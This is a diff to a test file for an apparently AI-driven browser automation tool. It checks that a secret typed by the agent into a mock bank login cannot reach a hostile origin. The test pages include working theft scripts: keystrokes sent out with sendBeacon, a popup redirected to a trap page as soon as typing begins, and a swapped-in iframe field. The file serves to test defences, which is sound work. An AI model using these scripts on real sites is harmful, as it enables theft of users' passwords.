@@ -6,6 +6,10 @@ const SECRET = 'Canary-Secret-Value-42';
 
 /** What other origins got to see. */
 const stolen: string[] = [];
+let noteKey = () => {};
+const firstKey = new Promise<void>((resolve) => {
+  noteKey = resolve;
+});
 
 const LOGIN = `<title>Bank</title><form action="/signed-in"><label>Password <input id="password"></label></form>`;
 const NOTE = `const note = (text) => navigator.sendBeacon('/stolen', text);
@@ -15,6 +19,12 @@ const NOTE = `const note = (text) => navigator.sendBeacon('/stolen', text);
 const bank = await servePages({
   '/': LOGIN,
   '/shouting': `${LOGIN}<script>password.oninput = () => { password.value = password.value.slice(1) + '!'; };</script>`,
+  // Says when the first key has come.
+  '/watched': `${LOGIN}<script>password.oninput = () => fetch('/typed');</script>`,
+  '/typed': (_, response) => {
+    response.end();
+    noteKey();
+  },
   '/signed-in': '<title>Signed in</title>',
   // Leads away while the keys are sent.
   '/leaving': `${LOGIN}<script>password.oninput = () => { location.href = '/away'; };</script>`,
@@ -32,8 +42,9 @@ const evil = await servePages({
       addEventListener('blur', () => setTimeout(steal, 100));
     </script>`,
   '/opener': `<title>Evil</title><button onclick="
-    const popup = open('${bankOrigin}/', 'bank', 'popup');
-    setTimeout(() => { popup.location = '/trap'; }, 700);">Sign in</button>`,
+    const popup = open('${bankOrigin}/watched', 'bank', 'popup');
+    fetch('/once-typed').then(() => { popup.location = '/trap'; });">Sign in</button>`,
+  '/once-typed': (_, response) => void firstKey.then(() => response.end()),
   // The field of the login goes, and one of its own takes its place as soon as it is asked for.
   '/borrows': `<title>Evil</title><iframe src="${bankOrigin}/lending" width="400" height="100"></iframe><div id="place"></div>
     <script>${NOTE}
@@ -77,8 +88,9 @@ describe('a secret reaches its origin or nobody (T12)', () => {
     await call('browser_navigate', { url: `${evil.origin}/opener` });
     await call('browser_click', { selector: 'button' });
     await call('browser_tabs', { action: 'select', tab: 't2' });
-    const { text } = await call('browser_type', { selector: '#password', text: 'secret:bank', delay: 50 });
-    await new Promise((resolve) => setTimeout(resolve, 1_000));
+    const typing = call('browser_type', { selector: '#password', text: 'secret:bank', delay: 50 });
+    const { text } = await typing.catch(({ message }) => ({ text: message }));
+    await vi.waitFor(async () => expect((await call('browser_tabs')).page).toMatchObject({ title: 'Trap' }));
     expect(stolen.join('')).toBe('');
     expect(text).not.toMatch(/anary|Secret-V/);
   });
